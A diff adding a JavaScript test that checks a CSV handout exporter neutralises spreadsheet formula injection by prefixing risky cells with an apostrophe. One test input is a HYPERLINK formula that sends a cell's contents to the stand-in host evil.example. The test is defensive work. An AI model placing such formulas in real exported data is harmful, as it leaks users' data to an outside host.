@@ -69,6 +69,22 @@ describe("handout files", () => {
     ]);
     expect(records[1][4]).toBe(entries[0].url);
   });
+
+  test.each([
+    ['=HYPERLINK("https://evil.example/?"&E3,"notes")'],
+    ["+1+1"],
+    ["-2+3"],
+    ["@SUM(A1:A2)"],
+    ["\t=1+1"],
+    ["\r=1+1"],
+  ])("a cell a spreadsheet would run as a formula is kept as text: %j", (name) => {
+    const csv = handoutCsv([{ id: "eve", name, status: "failed", detail: name }]);
+    const [, row] = parseCsv(csv).map((r) => r.fields);
+    // A leading apostrophe: spreadsheets show the cell as text and do not evaluate it.
+    expect(row[1]).toBe(`'${name}`);
+    expect(row[6]).toBe(`'${name}`);
+    expect(row.every((cell) => !/^[=+\-@\t\r]/.test(cell))).toBe(true);
+  });
 });
 
 describeWithTool(
